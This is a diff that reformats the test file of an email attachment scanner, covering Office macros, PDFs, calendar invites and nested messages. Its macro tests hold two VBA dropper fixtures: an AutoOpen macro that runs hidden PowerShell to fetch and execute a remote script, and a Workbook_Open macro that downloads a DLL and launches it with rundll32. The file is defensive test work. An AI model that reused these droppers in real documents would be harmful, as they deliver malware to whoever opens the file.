@@ -8,8 +8,25 @@ import type { SignalCode } from '../../src/contract/signals.ts';
 import { parseMessage } from '../../src/message/parse.ts';
 import { entity, mixed, textPart, type Entity } from '../message/mime.ts';
 import {
-  JPEG, PLAIN_HTML, PLAIN_RTF, SMUGGLING_HTML, base64, docx, ics, isoImage, macroPackage, ole, pdf, peStub, relationships,
-  rtfWithObject, storedZip, utf8, vbaStreams, zip, type VbaModule,
+  JPEG,
+  PLAIN_HTML,
+  PLAIN_RTF,
+  SMUGGLING_HTML,
+  base64,
+  docx,
+  ics,
+  isoImage,
+  macroPackage,
+  ole,
+  pdf,
+  peStub,
+  relationships,
+  rtfWithObject,
+  storedZip,
+  utf8,
+  vbaStreams,
+  zip,
+  type VbaModule,
 } from './formats-builders.ts';
 
 const CONTEXT: AreaContext = { signal: new AbortController().signal, deadline: Number.MAX_SAFE_INTEGER, trustedAuthservIds: [], dns: 'off' };
@@ -113,7 +130,11 @@ describe('attachments area: the password offered in the text', () => {
     assert.ok(!(await signalsWithText('Your new password: Welcome2024', [file('a.pdf', INVOICE_PDF)])).includes('attachment_password_in_body'));
   });
   it('ignores sentences about passwords that give none', async () => {
-    assert.ok(!(await signalsWithText('A password is required to open the attachment; it will be sent separately.', [encrypted])).includes('attachment_password_in_body'));
+    assert.ok(
+      !(await signalsWithText('A password is required to open the attachment; it will be sent separately.', [encrypted])).includes(
+        'attachment_password_in_body',
+      ),
+    );
   });
   it('reads tokens after fillers and separators', () => {
     assert.equal(tokenFollows(' for the archive: "x7Hq2"'), true);
@@ -134,19 +155,42 @@ describe('attachments area: documents', () => {
   it('flags a macro that runs on open and starts a downloader: .docm, legacy .xls, and inside a ZIP', async () => {
     const downloader: VbaModule = {
       name: 'ThisDocument',
-      source: 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr https://198.51.100.41/f.ps1 -useb | iex""", 0\r\nEnd Sub\r\n',
+      source:
+        'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr https://198.51.100.41/f.ps1 -useb | iex""", 0\r\nEnd Sub\r\n',
       pcode: 300,
     };
     const expected = ['attachment_office_macro', 'attachment_office_macro_dropper'];
     assert.deepEqual(await signals([file('Factuur.docm', macroPackage([downloader]))]), expected);
-    const workbook = { ...downloader, name: 'ThisWorkbook', source: 'Private Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://198.51.100.41/a.dll", Environ("TEMP") & "\\a.dll", 0, 0\r\n  Shell "rundll32 " & Environ("TEMP") & "\\a.dll,Start"\r\nEnd Sub\r\n' };
-    assert.deepEqual(await signals([file('order.xls', ole({ Workbook: new Uint8Array(600), ...vbaStreams([workbook], '_VBA_PROJECT_CUR/VBA') }), 'application/vnd.ms-excel')]), expected);
+    const workbook = {
+      ...downloader,
+      name: 'ThisWorkbook',
+      source:
+        'Private Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://198.51.100.41/a.dll", Environ("TEMP") & "\\a.dll", 0, 0\r\n  Shell "rundll32 " & Environ("TEMP") & "\\a.dll,Start"\r\nEnd Sub\r\n',
+    };
+    assert.deepEqual(
+      await signals([file('order.xls', ole({ Workbook: new Uint8Array(600), ...vbaStreams([workbook], '_VBA_PROJECT_CUR/VBA') }), 'application/vnd.ms-excel')]),
+      expected,
+    );
     assert.deepEqual(await signals([file('order.zip', zip({ 'order.docm': macroPackage([downloader]) }))]), expected);
   });
   it('leaves a spreadsheet that formats itself on open, and a Shell call no procedure runs by itself, as macros', async () => {
-    const formatting = macroPackage([{ name: 'ThisWorkbook', source: 'Private Sub Workbook_Open()\r\n  With Sheets("Report").Range("A1:H1")\r\n    .Font.Bold = True\r\n    .Interior.Color = RGB(221, 235, 247)\r\n  End With\r\n  Sheets("Report").Columns("A:H").AutoFit\r\nEnd Sub\r\n' }], 'Report', 'xl/vbaProject.bin');
+    const formatting = macroPackage(
+      [
+        {
+          name: 'ThisWorkbook',
+          source:
+            'Private Sub Workbook_Open()\r\n  With Sheets("Report").Range("A1:H1")\r\n    .Font.Bold = True\r\n    .Interior.Color = RGB(221, 235, 247)\r\n  End With\r\n  Sheets("Report").Columns("A:H").AutoFit\r\nEnd Sub\r\n',
+        },
+      ],
+      'Report',
+      'xl/vbaProject.bin',
+    );
     assert.deepEqual(await signals([file('report.xlsm', formatting)]), ['attachment_office_macro']);
-    const button = macroPackage([{ name: 'Module1', source: 'Sub OpenExportFolder()\r\n  Shell "explorer.exe " & ThisWorkbook.Path & "\\export", vbNormalFocus\r\nEnd Sub\r\n' }], 'Export', 'xl/vbaProject.bin');
+    const button = macroPackage(
+      [{ name: 'Module1', source: 'Sub OpenExportFolder()\r\n  Shell "explorer.exe " & ThisWorkbook.Path & "\\export", vbNormalFocus\r\nEnd Sub\r\n' }],
+      'Export',
+      'xl/vbaProject.bin',
+    );
     assert.deepEqual(await signals([file('export-tool.xlsm', button)]), ['attachment_office_macro']);
   });
   it('flags a docx that loads a remote template', async () => {
@@ -154,12 +198,18 @@ describe('attachments area: documents', () => {
     assert.deepEqual(await signals([file('report.docx', bytes)]), ['attachment_office_external_ref']);
   });
   it('flags a legacy document with macros', async () => {
-    const project = vbaStreams([{ name: 'NewMacros', source: 'Sub InsertLetterhead()\r\n  Selection.InsertFile "letterhead.docx"\r\nEnd Sub\r\n', pcode: 200 }], 'Macros/VBA');
-    assert.deepEqual(await signals([file('order.doc', ole({ ...project, WordDocument: new Uint8Array(600) }), 'application/msword')]), ['attachment_office_macro']);
+    const project = vbaStreams(
+      [{ name: 'NewMacros', source: 'Sub InsertLetterhead()\r\n  Selection.InsertFile "letterhead.docx"\r\nEnd Sub\r\n', pcode: 200 }],
+      'Macros/VBA',
+    );
+    assert.deepEqual(await signals([file('order.doc', ole({ ...project, WordDocument: new Uint8Array(600) }), 'application/msword')]), [
+      'attachment_office_macro',
+    ]);
   });
   it('flags an encrypted Office document', async () => {
     assert.deepEqual(await signals([file('salary.xlsx', ole({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(600) }))]), [
-      'attachment_encrypted', 'coverage_attachment_uninspected',
+      'attachment_encrypted',
+      'coverage_attachment_uninspected',
     ]);
   });
   it('flags an RTF with an Equation Editor object, and a linked object that updates itself', async () => {
@@ -172,11 +222,12 @@ describe('attachments area: documents', () => {
     assert.deepEqual(await signals([file('statement.pdf', bytes, 'application/pdf')]), ['attachment_pdf_active']);
   });
   it('flags a PDF embedding a program, not an e-invoice embedding its XML', async () => {
-    const embedding = (name: string): Uint8Array => pdf([
-      '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(f) 2 0 R] >> >> >>',
-      `<< /Type /Filespec /F (${name}) /EF << /F 3 0 R >> >>`,
-      '<< /Type /EmbeddedFile /Length 0 >>',
-    ]);
+    const embedding = (name: string): Uint8Array =>
+      pdf([
+        '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(f) 2 0 R] >> >> >>',
+        `<< /Type /Filespec /F (${name}) /EF << /F 3 0 R >> >>`,
+        '<< /Type /EmbeddedFile /Length 0 >>',
+      ]);
     assert.deepEqual(await signals([file('a.pdf', embedding('update.exe'))]), ['attachment_pdf_active']);
     assert.deepEqual(await signals([file('a.pdf', embedding('factur-x.xml'))]), []);
   });
@@ -212,18 +263,26 @@ describe('attachments area: machine-made names', () => {
 });
 
 describe('attachments area: calendar invitations', () => {
-  const calendar = (body: string): Entity => ({ headers: ['Content-Type: text/calendar; method=REQUEST; charset=utf-8', 'Content-Disposition: attachment; filename="invite.ics"'], body });
+  const calendar = (body: string): Entity => ({
+    headers: ['Content-Type: text/calendar; method=REQUEST; charset=utf-8', 'Content-Disposition: attachment; filename="invite.ics"'],
+    body,
+  });
   it('flags an invitation organised by someone other than the sender', async () => {
     assert.deepEqual(await signals([calendar(ics('billing@payments.invalid'))]), ['attachment_calendar_invite']);
     assert.deepEqual(await signals([calendar(ics(undefined))]), ['attachment_calendar_invite']);
   });
   it("flags the sender's own invitation whose event links past the meeting services", async () => {
-    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Review your letter first: https://example.org/letter?id=bo'))]), ['attachment_calendar_invite']);
+    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Review your letter first: https://example.org/letter?id=bo'))]), [
+      'attachment_calendar_invite',
+    ]);
     assert.deepEqual(await signals([calendar(ics('ana@example.org', 'URL:https://people-portal.example.com/comp'))]), ['attachment_calendar_invite']);
   });
   it("stays quiet on the sender's own calendar invitation", async () => {
     assert.deepEqual(await signals([calendar(ics('ana@example.org'))]), []);
-    assert.deepEqual(await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Join: https://us06web.zoom.us/j/844?pwd=x\\nHelp: https://aka.ms/JoinTeamsMeeting'))]), []);
+    assert.deepEqual(
+      await signals([calendar(ics('ana@example.org', 'DESCRIPTION:Join: https://us06web.zoom.us/j/844?pwd=x\\nHelp: https://aka.ms/JoinTeamsMeeting'))]),
+      [],
+    );
     assert.deepEqual(await signals([calendar(ics('ana@example.org', 'LOCATION:https://meet.google.com/abc-defg-hij'))]), []);
     assert.deepEqual(await signals([calendar(ics('ana@mail.example.org'))]), []);
   });
@@ -232,8 +291,10 @@ describe('attachments area: calendar invitations', () => {
 describe('attachments area: messages and limits', () => {
   it('looks inside attached messages', async () => {
     const inner = mixed([textPart('fwd'), file('run.vbs', 'x')], {}, 'inner');
-    const outer = entity(['From: Ana <ana@example.org>', 'To: bo@example.net', 'Subject: fwd', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b0"'],
-      `--b0\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b0\r\nContent-Type: message/rfc822\r\n\r\n${new TextDecoder().decode(inner)}\r\n--b0--\r\n`);
+    const outer = entity(
+      ['From: Ana <ana@example.org>', 'To: bo@example.net', 'Subject: fwd', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b0"'],
+      `--b0\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b0\r\nContent-Type: message/rfc822\r\n\r\n${new TextDecoder().decode(inner)}\r\n--b0--\r\n`,
+    );
     const model = await parseMessage(outer);
     assert.deepEqual([...(await attachmentsArea.run(model, CONTEXT)).signals], ['attachment_executable']);
   });
